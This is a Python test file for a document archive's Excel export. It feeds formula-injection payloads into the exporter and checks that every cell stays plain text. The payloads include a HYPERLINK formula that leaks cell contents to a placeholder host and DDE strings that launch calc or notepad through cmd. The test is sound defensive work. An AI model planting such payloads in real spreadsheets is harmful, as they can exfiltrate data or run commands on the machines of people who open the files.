"""Export injection: text starting with = + - @ (also full-width, tab, CR) never becomes an Excel formula."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from core import Archive
from core.export import export_xlsx

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 全角等号",
    "＋1 全角加号",
    "－1 全角减号",
    "＠SUM(1) 全角at",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
]


def _document(index: int, payload: str) -> str:
    # The payload opens the document (title line) and the sentence that carries a figure.
    return (
        f"{payload}\n"
        f"{payload}全年收到行政复议申请{100 + index}件，直接纠错率1{index}.5%。\n"
        "一、主要举措和成效\n"
        f"{payload}\n"
        "二、存在的不足和原因\n执法力量不足。\n"
    )


def _formula_cells(xlsx: Path) -> list[str]:
    """Every <f> element in every worksheet (formulas), read straight from the file's XML."""
    found = []
    with zipfile.ZipFile(xlsx) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<(?:\w+:)?f[\s>][^<]*", xml)]
    return found


def test_no_cell_becomes_a_formula(tmp_path: Path) -> None:
    folder = tmp_path / "注入"
    folder.mkdir()
    for index, payload in enumerate(PAYLOADS):
        (folder / f"注入{index}.txt").write_text(_document(index, payload), encoding="utf-8")
    out = tmp_path / "导出.xlsx"
    with Archive.open(tmp_path / "档案.sqlite") as archive:
        report = archive.import_paths([folder])
        ids = archive.list_ids()
        assert len(ids) == len(PAYLOADS), [(i.path, i.reason) for i in report.items]
        # user overrides are exported too: put payloads into every overridable text field
        archive.set_metadata(ids[:1], title=PAYLOADS[0], agency=PAYLOADS[3])
        archive.set_metadata(ids[1:2], title=PAYLOADS[4], agency=PAYLOADS[7])
        archive.tag_documents(ids[:2], ["=1+1", "@标签"])
        export_xlsx(archive, out, ids)

    assert _formula_cells(out) == []

    workbook = load_workbook(out)  # not read-only: data_type is reliable
    seen: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    text = "\n".join(seen)
    # the payloads are kept as visible text, not dropped
    assert "HYPERLINK(" in text
    assert "SUM(1+1)" in text
    assert "全角等号" in text
    assert "行政复议申请" in text
